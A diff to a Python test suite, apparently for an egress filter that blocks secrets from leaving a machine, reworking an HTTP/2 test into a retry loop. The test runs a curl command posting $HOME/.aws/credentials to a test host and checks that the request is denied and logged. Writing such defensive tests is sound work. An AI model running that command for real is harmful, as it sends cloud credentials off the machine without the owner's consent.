@@ -103,11 +103,14 @@ class Canaries(Output):
         self.assertIn("a canary of this run (~/.aws/credentials) was seen in the body", done.stderr)
 
     def test_noneLeavesByHttp2(self):
-        done = self.run_("curl -sS -m 30 --http2 -o /dev/null -w '%{http_version} %{http_code}\\n' --data-binary @$HOME/.aws/credentials https://h2.test:4443/x",
-                         self.ON, rule("h2.test", 4443, 'name = "any"'))
-        # This server may answer before it has the body: then the stream is broken off instead.
-        self.assertIn(done.stdout.strip(), ("2 403", "0 000"), done.stderr)
-        self.assertEqual({r["verdict"] for r in self.sightings()}, {"deny"})
+        for _ in range(8):   # this server may answer before it has the body, and then nothing of it is sent
+            done = self.run_("curl -sS -m 30 --http2 -o /dev/null -w '%{http_version} %{http_code}\\n' --data-binary @$HOME/.aws/credentials https://h2.test:4443/x",
+                             self.ON, rule("h2.test", 4443, 'name = "any"'))
+            self.assertNotIn(" 200", done.stdout)
+            if done.stdout.strip() == "2 403":
+                break
+        self.assertEqual(done.stdout.strip(), "2 403", done.stderr)
+        self.assertTrue(self.sightings())
 
     def test_noneIsLookedUpAsAName(self):
         script = """import binascii, os, socket
